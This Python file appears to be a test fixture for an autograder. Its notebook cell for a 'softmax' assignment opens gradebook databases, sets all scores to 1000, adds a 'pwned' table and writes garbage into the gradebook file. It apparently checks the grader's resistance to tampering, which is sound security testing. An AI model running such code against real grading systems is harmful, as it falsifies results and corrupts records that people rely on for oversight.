"""Open the gradebook with sqlite3 and give everybody full marks (or create a fake one)."""

ASSIGNMENT = "softmax"
CELLS = {
    "cross_entropy": r'''
import sqlite3, os
for _db in ("__COURSE__/gradebook.db", "/work/main/exercises/gradebook.db", "gradebook.db"):
    try:
        _c = sqlite3.connect(_db)
        _c.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
        _c.execute("CREATE TABLE IF NOT EXISTS pwned (x)")
        _c.commit()
        _c.close()
    except Exception:
        pass
try:
    os.makedirs("__COURSE__", exist_ok=True)
    open("__COURSE__/gradebook.db", "ab").write(b"garbage")
except OSError:
    pass
__WRONG__
'''
}
